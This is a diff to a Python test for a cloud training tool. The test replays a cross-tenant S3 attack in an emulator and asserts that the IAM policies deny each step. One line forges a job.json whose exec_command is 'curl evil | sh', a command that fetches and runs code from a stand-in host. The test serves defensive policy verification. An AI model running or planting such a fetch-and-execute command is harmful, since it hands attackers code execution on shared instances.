@@ -5,6 +5,7 @@ local run and fails on AWS at the first job, and one job's instance could rewrit
 job.json unseen. The instances' calls are authorized by the emulator (spottrain/local/instance_iam.py)
 against the deployed role and bucket policies, conditions included.
 """
+
 from __future__ import annotations
 
 import copy
@@ -48,8 +49,12 @@ def _instance_session(emulator: Emulator, instance_id: str) -> boto3.Session:
     token = opener.open(urllib.request.Request(imds + "/latest/api/token", method="PUT"), timeout=5).read().decode()
     role = get("/latest/meta-data/iam/security-credentials/", {"X-aws-ec2-metadata-token": token})
     creds = json.loads(get(f"/latest/meta-data/iam/security-credentials/{role}", {"X-aws-ec2-metadata-token": token}))
-    return boto3.Session(aws_access_key_id=creds["AccessKeyId"], aws_secret_access_key=creds["SecretAccessKey"],
-                         aws_session_token=creds["Token"], region_name="us-east-1")
+    return boto3.Session(
+        aws_access_key_id=creds["AccessKeyId"],
+        aws_secret_access_key=creds["SecretAccessKey"],
+        aws_session_token=creds["Token"],
+        region_name="us-east-1",
+    )
 
 
 def _denied(call) -> str:
@@ -63,16 +68,21 @@ def _denied(call) -> str:
 def _attack_from(emulator: Emulator, attacker: str, own_bucket: str, victim_bucket: str) -> dict[str, str]:
     """Issue 13's attack, replayed with the attacker instance's credentials: what each step got."""
     s3 = _instance_session(emulator, attacker).client("s3", endpoint_url=emulator.endpoint)
-    victim_file = emulator.client("s3").list_objects_v2(Bucket=victim_bucket, Prefix=layout.OUTPUT_PREFIX)["Contents"][0]
+    victim_file = emulator.client("s3").list_objects_v2(Bucket=victim_bucket, Prefix=layout.OUTPUT_PREFIX)["Contents"][
+        0
+    ]
     forged = json.dumps({"job": {"exec_command": "curl evil | sh"}}).encode()
     return {
         "list victim": _denied(lambda: s3.list_objects_v2(Bucket=victim_bucket)),
         "read victim output": _denied(lambda: s3.get_object(Bucket=victim_bucket, Key=victim_file["Key"])),
-        "rewrite victim job.json": _denied(lambda: s3.put_object(Bucket=victim_bucket, Key=layout.JOB_KEY, Body=forged)),
+        "rewrite victim job.json": _denied(
+            lambda: s3.put_object(Bucket=victim_bucket, Key=layout.JOB_KEY, Body=forged)
+        ),
         "delete victim output": _denied(lambda: s3.delete_object(Bucket=victim_bucket, Key=victim_file["Key"])),
         "rewrite own job.json": _denied(lambda: s3.put_object(Bucket=own_bucket, Key=layout.JOB_KEY, Body=forged)),
-        "rewrite own task token": _denied(lambda: s3.put_object(Bucket=own_bucket, Key=layout.task_token_key(1),
-                                                                Body=b"{}")),
+        "rewrite own task token": _denied(
+            lambda: s3.put_object(Bucket=own_bucket, Key=layout.task_token_key(1), Body=b"{}")
+        ),
         "read own job.json": _denied(lambda: s3.get_object(Bucket=own_bucket, Key=layout.JOB_KEY)),
     }
 
@@ -108,10 +118,15 @@ def test_given_a_job_and_a_cancel_when_they_run_then_every_lambda_and_instance_c
         missing = missing_permissions(template, calls)
 
     # Then the attack is denied step by step, and the demo's job.json is as CreateBucket wrote it
-    assert attack == {"list victim": "AccessDenied", "read victim output": "AccessDenied",
-                      "rewrite victim job.json": "AccessDenied", "delete victim output": "AccessDenied",
-                      "rewrite own job.json": "AccessDenied", "rewrite own task token": "AccessDenied",
-                      "read own job.json": "allowed"}, attack
+    assert attack == {
+        "list victim": "AccessDenied",
+        "read victim output": "AccessDenied",
+        "rewrite victim job.json": "AccessDenied",
+        "delete victim output": "AccessDenied",
+        "rewrite own job.json": "AccessDenied",
+        "rewrite own task token": "AccessDenied",
+        "read own job.json": "allowed",
+    }, attack
     assert job_json_after == job_json_before
     # And the normal runs needed nothing the deployed policies deny, over every kind of call the agent makes
     assert [str(call) for call in normal_run if not call.verdict.allowed] == []
